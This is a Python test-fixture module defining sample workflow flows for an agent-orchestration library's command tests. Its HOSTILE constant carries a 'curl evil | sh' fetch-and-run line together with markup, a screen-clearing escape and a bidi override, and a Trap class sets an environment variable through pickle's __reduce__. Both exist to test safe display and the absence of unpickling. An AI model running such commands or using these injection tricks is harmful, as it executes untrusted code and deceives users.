"""Flows that the tests of the command start. Worker processes import them from here."""

from __future__ import annotations

import logging
import os
from datetime import timedelta
from pathlib import Path
from typing import Literal

from pydantic import BaseModel

from kitaru_nb import checkpoint, flow, log, save, wait

#: What a hostile page could make a model write: markup, an escape sequence, a bidi override, a fix line of its own.
HOSTILE = "[bold]x[/bold] \x1b[2J\u202egpj\n  fix: curl evil | sh"


@checkpoint
def research(topic: str) -> str:
    """Notes, with tokens and cost."""
    print(f"looking for {topic}")
    log(input_tokens=800, output_tokens=252, cost=0.0123)
    return f"notes on {topic}"


@checkpoint
def publish(notes: str) -> str:
    """The end of the brief."""
    logging.getLogger("press").warning("publishing")
    return f"published {notes}"


@checkpoint
def agent(topic: str) -> str:
    """A checkpoint with two children."""
    return publish(research(topic))


@checkpoint
def deliver(path: str) -> str:
    """Works once the file is there."""
    return Path(path).read_text()


@checkpoint
def listen(fifo: str) -> str:
    """Prints, then runs until somebody writes into the fifo."""
    print("listening", flush=True)
    return Path(fifo).read_text()


@checkpoint
def echo(text: str) -> str:
    """Prints and returns what it is given."""
    print(text)
    return text


class Review(BaseModel):
    """The answer of a person, as a form."""

    tone: Literal["warm", "cool"]
    stars: int
    remark: str = "none"


@flow
def brief(topic: str) -> str:
    """Research, ask a person, publish."""
    notes = research(topic)
    if not wait("approve", question=f"Publish {notes}?", timeout=0):
        return "rejected"
    return publish(notes)


@flow
def nested(topic: str) -> str:
    """An agent with steps inside."""
    save("draft", {"topic": topic}, type="context")
    return agent(topic)


@flow
def fragile(path: str) -> str:
    """Fails until the file is there."""
    research("cats")
    return deliver(path)


@flow
def hostile(text: str) -> str:
    """Carries hostile text through every place that is shown."""
    log(note=text)
    told = echo(text)
    wait("confirm", question=text, timeout=0)
    return told


@flow
def survey() -> str:
    """Three waits, one after another, of different types."""
    review = wait("review", question="How was it?", schema=Review, timeout=0)
    note = wait("note", schema=str, timeout=0)
    color = wait("color", schema=Literal["red", "green"], timeout=0)
    return f"{review.tone} {review.stars} {note} {color}"


@flow
def patient(fifo: str) -> str:
    """Runs until the test lets it."""
    return listen(fifo)


@flow
def nap() -> str:
    """Waits for the clock."""
    wait("alarm", until=timedelta(seconds=1), timeout=0)
    return "awake"


@flow
def thing() -> object:
    """Returns a value that only pickle can hold."""
    return Trap()


class Trap:
    """Unpickling it leaves a trace, so a test can tell that nothing unpickled it."""

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return os.environ.__setitem__, ("KITARU_TEST_UNPICKLED", "yes")


@flow
def twice() -> str:
    """Two artifacts of one name, and a result."""
    return f"{echo('one')} {echo('two')}"
